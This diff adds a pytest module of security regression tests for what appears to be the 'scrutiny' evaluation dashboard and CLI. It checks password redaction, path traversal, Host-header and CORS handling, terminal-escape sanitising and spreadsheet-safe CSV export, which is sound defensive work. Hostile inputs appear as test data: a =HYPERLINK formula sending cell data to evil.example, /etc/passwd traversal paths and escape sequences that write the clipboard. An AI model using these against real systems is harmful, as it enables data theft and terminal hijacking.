@@ -1,0 +1,279 @@
+"""Hostile content and hostile requests against the dashboard's server and the command line.
+
+Records hold what an app's users typed: HTML, escape sequences, spreadsheet formulas. Database
+URLs hold passwords, also as ``?password=``. Each test stores real records through the public
+API and reads them back through the real dashboard app or the real `scrutiny` command.
+"""
+
+from __future__ import annotations
+
+import logging
+import sqlite3
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any
+from urllib.parse import quote
+
+import pytest
+from click.testing import CliRunner, Result
+
+from scrutiny import Feedback, Record, Session
+from scrutiny.cli import main
+from tests.support.worker_process import run_worker_until
+
+REPO = Path(__file__).resolve().parents[1]
+SECRET = "s3cr3t-pw"
+# SQLite ignores ?password= (with this warning), which makes it a real URL that holds one
+QUERY_PASSWORD = pytest.mark.filterwarnings("ignore:Query string argument")
+TERMINAL = ("\x1b]0;owned\x07"          # sets the terminal's title
+            "\x1b]52;c;ZXZpbA==\x07"    # writes the clipboard
+            "\x1b[2J\x1b[31m"           # clears the screen, turns red
+            "\rfake\u202eevil")         # overwrites the line, reverses the text
+FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(1,1)",
+            "\t=1+1"]
+
+
+def _run(*args: str, env: dict[str, str] | None = None) -> Result:
+    return CliRunner().invoke(main, list(args), env=env)
+
+
+def _store(url: str, records: list[Record], feedbacks: list[Feedback] | None = None) -> None:
+    with Session(url) as s:
+        for record in records:
+            s.ingest(record, feedbacks or [])
+        assert s.wait_for_feedback(30)
+
+
+def _record(text: str, i: int = 0, app: str = "qa", record_id: str | None = None) -> Record:
+    return Record(app_name=app, app_version="v1", input=text, output=text,
+                  start_time=1_700_000_000.0 + i, end_time=1_700_000_001.0 + i,
+                  **({"record_id": record_id} if record_id else {}))
+
+
+# ====================================================================== dashboard server
+@pytest.fixture
+def client_of() -> Iterator[Callable[..., Any]]:
+    """``client_of(url, base_url=..., **create_app_kwargs)``: a TestClient of a session on
+    `url` (opened like the command opens it: ``migrate="refuse"``)."""
+    pytest.importorskip("starlette")
+    from starlette.testclient import TestClient
+
+    from scrutiny.dashboard import create_app
+
+    opened: list[tuple[Session, TestClient]] = []
+
+    def make(url: str, base_url: str = "http://127.0.0.1:8765", **kwargs: Any) -> TestClient:
+        session = Session(url, migrate="refuse")
+        client = TestClient(create_app(session, **kwargs), base_url=base_url,
+                            raise_server_exceptions=False)
+        opened.append((session, client))
+        return client
+
+    yield make
+    for session, client in opened:
+        client.close()
+        session.close()
+
+
+@pytest.mark.parametrize("record_id", ["a/b", "../../etc/passwd", "x/y?z#w", "/"])
+def test_a_record_whose_id_holds_a_slash_opens(database_url: str,
+                                               client_of: Callable[..., Any],
+                                               record_id: str) -> None:
+    """`/api/records/{id:str}` matched no id with a "/": such a record (ids are the app's
+    to choose) was listed but answered 404, and its page said "No such record"."""
+    _store(database_url, [_record("q", record_id=record_id)])
+    client = client_of(database_url)
+    resp = client.get("/api/records/" + quote(record_id, safe=""))
+    assert resp.status_code == 200, resp.text
+    assert resp.json()["record_id"] == record_id
+
+
+@pytest.mark.parametrize("host", ["127.0.0.1:80@evil.example", "localhost:evil.example",
+                                  "127.0.0.1:", "localhost:80:80", "[::1]evil.example"])
+def test_a_host_header_that_is_not_name_and_port_is_refused(database_url: str,
+                                                            client_of: Callable[..., Any],
+                                                            host: str) -> None:
+    """A loopback name followed by anything after a colon passed the DNS-rebinding check."""
+    _store(database_url, [_record("q")])
+    client = client_of(database_url)
+    assert client.get("/api/info", headers={"host": host}).status_code == 421
+    for good in ("127.0.0.1:8765", "LOCALHOST", "[::1]:1", "::1"):
+        assert client.get("/api/info", headers={"host": good}).status_code == 200, good
+
+
+@QUERY_PASSWORD
+def test_a_password_in_the_query_string_never_reaches_the_page(
+        tmp_path: Path, client_of: Callable[..., Any], caplog: pytest.LogCaptureFixture) -> None:
+    """The page showed ``?password=...`` (SQLAlchemy's hide_password hides only the
+    user:password@ one), in /api/info, in every storage error, and in the server's log."""
+    path = tmp_path / "db.sqlite"
+    url = f"sqlite:///{path}?password={SECRET}"
+    _store(url, [_record("q")])
+    client = client_of(url)
+    info = client.get("/api/info").json()
+    assert SECRET not in info["database"]
+    assert info["database"].endswith("?password=***")
+    with sqlite3.connect(path) as con:  # the database breaks: a 503 that names it
+        con.execute("ALTER TABLE scrutiny_records RENAME TO gone")
+    with caplog.at_level(logging.WARNING, logger="scrutiny.dashboard"):
+        for route in ("/api/records", "/api/apps", "/api/leaderboard", "/api/charts",
+                      "/api/records/x"):
+            resp = client.get(route)
+            assert resp.status_code == 503
+            assert "password=***" in resp.json()["error"]
+            assert SECRET not in resp.text
+    assert caplog.records
+    assert SECRET not in caplog.text
+
+
+def test_the_token_redirect_never_names_another_host(database_url: str,
+                                                     client_of: Callable[..., Any]) -> None:
+    """The redirect that drops ?token= went to an absolute URL built from the Host header."""
+    from tests.test_dashboard_api import TOKEN
+
+    _store(database_url, [_record("q")])
+    client = client_of(database_url, base_url="http://evil.example", token=TOKEN)
+    resp = client.get("/", params={"token": TOKEN, "a": "1"}, follow_redirects=False)
+    assert resp.status_code == 303
+    assert resp.headers["location"] == "./?a=1"
+    assert "evil" not in resp.headers["location"]
+
+
+@pytest.mark.parametrize("path", [
+    "/static/../../../../etc/passwd", "/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
+    "/static/..%2f..%2f..%2fetc%2fpasswd", "/static/%252e%252e/_app.py",
+    "/static/..%5c_app.py", "/static/../_app.py", "/static//etc/passwd",
+    "/static/app.js%00.html", "/static/%c0%ae%c0%ae/_app.py"])
+def test_static_files_never_leave_their_folder(database_url: str, client_of: Callable[..., Any],
+                                               path: str) -> None:
+    _store(database_url, [_record("q")])
+    client = client_of(database_url)
+    resp = client.get(path)
+    assert resp.status_code == 404
+    assert "root:" not in resp.text
+    assert "import" not in resp.text
+
+
+def test_no_cross_origin_reads(database_url: str, client_of: Callable[..., Any]) -> None:
+    _store(database_url, [_record("q")])
+    client = client_of(database_url)
+    headers = {"origin": "http://evil.example", "access-control-request-method": "GET"}
+    assert client.options("/api/records", headers=headers).status_code == 405
+    resp = client.get("/api/records", headers={"origin": "http://evil.example"})
+    assert not [h for h in resp.headers if h.lower().startswith("access-control-")]
+
+
+# ====================================================================== the command line
+def test_tables_escape_terminal_control_sequences(database_url: str) -> None:
+    """Record content (and app and feedback names) reached the terminal raw: an input could
+    set its title, write its clipboard (OSC 52), clear it or overwrite a line."""
+    fb = Feedback(lambda output: 0.5, name="fb\x1b[8m").on_output()
+    structured = Record(app_name="qa\x1b[5m", app_version="v1", input={"q": TERMINAL},
+                        output=[TERMINAL], start_time=1.0, end_time=2.0)  # (pandas: raw)
+    _store(database_url, [_record(TERMINAL, app="qa\x1b[5m"), structured], [fb])
+    outputs = [_run("records", "--database-url", database_url).stdout,
+               _run("leaderboard", "--database-url", database_url).stdout,
+               _run("records", "--database-url", database_url, "--app", "nope").stderr]
+    for out in outputs:
+        assert not any(c in out for c in "\x1b\x07\r\u202e"), repr(out)
+        assert "qa\\x1b[5m" in out
+    assert "\\x1b]0;owned\\x07" in outputs[0]
+    assert "{'q': '\\x1b]0;owned\\x07" in outputs[0]
+    assert "fb\\x1b[8m" in outputs[1]
+    json_out = _run("records", "--database-url", database_url, "--format", "json").stdout
+    assert "\x1b" not in json_out  # (JSON escapes them itself)
+
+
+def _deferred_failure(output: str) -> float:
+    raise RuntimeError(output)
+
+
+@QUERY_PASSWORD
+def test_a_workers_log_is_one_line_per_event_and_names_no_password(tmp_path: Path) -> None:
+    """A feedback error quoting record content forged log lines and drove the terminal, and
+    the worker's first line named the database with its ?password=."""
+    url = f"sqlite:///{tmp_path}/w.sqlite?password={SECRET}"
+    forged = "x\n2099-01-01 00:00:00,000 scrutiny.worker stopped cleanly\x1b]0;owned\x07"
+    with Session(url, feedback_mode="deferred") as s:
+        s.ingest(_record(forged), [Feedback(_deferred_failure, name="fails").on_output()])
+        assert s.flush(10)
+    log, _ = run_worker_until(["--import-path", str(REPO), "--poll-interval", "0.05"],
+                              "RuntimeError", env={"SCRUTINY_DATABASE_URL": url})
+    assert "RuntimeError" in log
+    assert not [line for line in log.splitlines() if line.startswith("2099")], log
+    assert "\x1b" not in log
+    assert "\\x1b]0;owned\\x07" in log
+    assert "password=***" in log
+    assert SECRET not in log
+
+
+@QUERY_PASSWORD
+@pytest.mark.parametrize("url", [
+    f"sqlite:///{{tmp}}/db.sqlite?password={SECRET}",
+    f"sqlite:///{{tmp}}/db.sqlite?sslpassword={quote(SECRET)}&x=1",
+    f"postgres ql://me:{SECRET}@db/scrutiny",        # not a URL: the error quoted it whole
+    f"postgresql+psycopg://me:{SECRET}@db:port/scrutiny",  # a traceback
+])
+@pytest.mark.parametrize("command", [["records", "--app", "nope"], ["leaderboard"],
+                                     ["db", "upgrade"]])
+def test_no_message_shows_the_database_password(tmp_path: Path, url: str,
+                                                command: list[str]) -> None:
+    url = url.replace("{tmp}", str(tmp_path))
+    usable = url.startswith("sqlite")
+    if usable:
+        _store(url, [_record("q")])
+    out = _run(*command, env={"SCRUTINY_DATABASE_URL": url})
+    text = out.stdout + out.stderr
+    assert SECRET not in text
+    assert "Traceback" not in text
+    if not usable or command[0] == "records":  # (an unknown --app: the message names the db)
+        assert out.exit_code == 2, text
+        assert out.stderr.startswith("scrutiny: error: ")
+    if usable and command[0] == "records":
+        assert "password=***" in out.stderr
+
+
+@QUERY_PASSWORD
+def test_the_dashboard_refuses_a_password_on_its_command_line_in_any_form(
+        tmp_path: Path) -> None:
+    for url in (f"postgresql+psycopg://me@127.0.0.1:1/scrutiny?password={SECRET}",
+                f"sqlite:///{tmp_path}/none.sqlite?sslpassword={SECRET}"):
+        out = _run("dashboard", "--port", "0", "--database-url", url)
+        assert out.exit_code == 2
+        assert "$SCRUTINY_DATABASE_URL" in out.stderr
+        assert SECRET not in out.stderr
+    passfile = _run("dashboard", "--port", "0", "--database-url",  # a path: no password
+                    f"sqlite:///{tmp_path}/none.sqlite?passfile=/home/me/.pgpass")
+    assert "no database at" in passfile.stderr
+
+
+def _csv(text: str) -> list[list[str]]:
+    import csv
+    import io
+
+    return list(csv.reader(io.StringIO(text, newline="")))
+
+
+def test_spreadsheet_safe_csv_defuses_formulas(database_url: str) -> None:
+    """CSV is exact (for programs); --spreadsheet-safe makes every text a spreadsheet would
+    run as a formula start with ', in cells, headers and the leaderboard's index."""
+    fb = Feedback(lambda output: 0.5, name="=1+2").on_output()
+    _store(database_url, [_record(t, i, app="@app") for i, t in enumerate(FORMULAS)], [fb])
+    exact = _csv(_run("records", "--database-url", database_url, "--format", "csv").stdout)
+    col = exact[0].index("input")
+    assert sorted(r[col] for r in exact[1:]) == sorted(FORMULAS)
+    safe = _run("records", "--database-url", database_url, "--format", "csv",
+                "--spreadsheet-safe")
+    assert safe.exit_code == 0, safe.stderr
+    rows = _csv(safe.stdout)
+    assert sorted(r[col] for r in rows[1:]) == sorted("'" + t for t in FORMULAS)
+    assert {r[rows[0].index("app_name")] for r in rows[1:]} == {"'@app"}
+    assert "'=1+2" in rows[0]
+    assert {r[rows[0].index("latency")] for r in rows[1:]} == {"1.0"}  # numbers untouched
+    board = _csv(_run("leaderboard", "--database-url", database_url, "--format", "csv",
+                      "--spreadsheet-safe").stdout)
+    assert board[0][:3] == ["app_name", "app_version", "'=1+2"]
+    assert board[1][:3] == ["'@app", "v1", "0.5"]
+    refused = _run("records", "--database-url", database_url, "--spreadsheet-safe")
+    assert refused.exit_code == 2
+    assert "--format csv" in refused.stderr
